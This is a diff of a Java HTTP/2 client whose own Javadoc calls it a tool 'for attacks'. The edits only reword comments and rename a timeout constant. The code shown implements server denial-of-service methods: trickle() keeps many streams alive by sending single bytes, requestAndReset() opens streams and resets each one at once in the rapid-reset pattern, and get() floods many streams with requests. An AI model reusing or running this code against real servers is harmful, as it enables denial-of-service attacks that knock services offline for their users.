@@ -18,8 +18,8 @@ import java.util.Set;
 import java.util.function.IntConsumer;
 
 /**
- * As much of an HTTP/2 client (RFC 9113) as an attacker needs: it keeps to the server's flow control, and grants the server no more
- * than it said at the start. Header fields are sent as literals, of responses it understands the status only. Not thread-safe.
+ * A minimal HTTP/2 client (RFC 9113) for attacks: it obeys the server's flow control and never enlarges its own windows. Header
+ * fields are sent as literals; of responses it decodes the status only. Not thread-safe.
  */
 final class Http2Connection {
     static final int DEFAULT_WINDOW = 65_535;
@@ -37,8 +37,8 @@ final class Http2Connection {
     private static final int INITIAL_WINDOW_SIZE = 4;
     private static final int CANCEL = 8;
     private static final int CHUNK = 8_000;
-    private static final int PATIENCE_MILLIS = 5_000;
-    // Fields of the static table that stand for a whole status, RFC 7541 appendix A.
+    private static final int TIMEOUT_MILLIS = 5_000;
+    // Entries of the static table with a complete status, RFC 7541 appendix A.
     private static final Map<Integer, Integer> INDEXED_STATUS =
             Map.of(0x88, 200, 0x89, 204, 0x8a, 206, 0x8b, 304, 0x8c, 400, 0x8d, 404, 0x8e, 500);
 
@@ -83,7 +83,7 @@ final class Http2Connection {
         out.flush();
     }
 
-    /** Sends a byte on each stream each time that nothing came for {@code interval}, and opens a stream for each that ended. */
+    /** Sends a byte on each stream whenever nothing was received for {@code interval}, and replaces each closed stream. */
     void trickle(Duration interval) throws IOException {
         int streams = posting.size();
         boolean open = true;
@@ -103,7 +103,7 @@ final class Http2Connection {
         }
     }
 
-    /** Asks for the same on so many streams. */
+    /** Requests the same path on each stream. */
     void get(int streams, String path) throws IOException {
         for (int i = 0; i < streams; i++) {
             request("GET", path, List.of(), END_STREAM);
@@ -111,7 +111,7 @@ final class Http2Connection {
         out.flush();
     }
 
-    /** Asks on so many streams, one after the other, and resets each at once. */
+    /** Requests the path on one stream after the other and resets each at once. */
     void requestAndReset(int streams, String path) throws IOException {
         for (int i = 0; i < streams; i++) {
             frame(RST_STREAM, 0, request("GET", path, List.of(), END_STREAM), bytes(CANCEL));
@@ -144,9 +144,9 @@ final class Http2Connection {
         return stream;
     }
 
-    /** Waits while the connection's window is too small; gives the stream up where it does not open in time. */
+    /** Sends DATA when the connection's window allows it; skips the frame when the window does not open in time. */
     private void data(int stream, int length) throws IOException {
-        socket.setSoTimeout(PATIENCE_MILLIS);
+        socket.setSoTimeout(TIMEOUT_MILLIS);
         out.flush();
         try {
             while (window < length && posting.contains(stream)) {
@@ -202,7 +202,7 @@ final class Http2Connection {
 
     private static int status(byte[] block) {
         int at = 0;
-        // Updates of the dynamic table's size may come first.
+        // Dynamic table size updates may precede it.
         while ((block[at] & 0xe0) == 0x20) {
             at++;
         }
